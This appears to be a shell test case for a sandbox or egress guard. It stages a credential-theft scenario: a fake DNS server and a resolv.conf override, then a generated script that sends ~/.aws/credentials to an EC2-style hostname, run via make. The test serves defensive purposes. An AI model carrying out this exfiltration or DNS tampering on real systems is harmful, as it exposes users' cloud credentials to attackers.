# The cloud's credential goes to a machine that anybody can rent there, by its public name
# expect: 86 .aws/credentials
. "$(dirname "$0")/../lib.sh"
cat >ns.py <<'X'
import socket, struct
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); server.bind(("203.0.113.7", 53))
while True:
    q, who = server.recvfrom(512)
    end = q.index(b"\0", 12) + 5
    kind = struct.unpack(">H", q[end - 4:end - 2])[0]
    answer = b"\xc0\x0c" + struct.pack(">2HIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.7") if kind == 1 else b""
    server.sendto(q[:2] + struct.pack(">5H", 0x8180, 1, 1 if answer else 0, 0, 0) + q[12:end] + answer, who)
X
python3 ns.py & echo 'nameserver 203.0.113.7' >/home/resolv.conf; mount --bind /home/resolv.conf /etc/resolv.conf; sleep 0.5
python_thief '~/.aws/credentials' ec2-203-0-113-7.compute-1.amazonaws.com >thief.py
printf 'all:\n\tpython3 thief.py\n' >Makefile
guard make
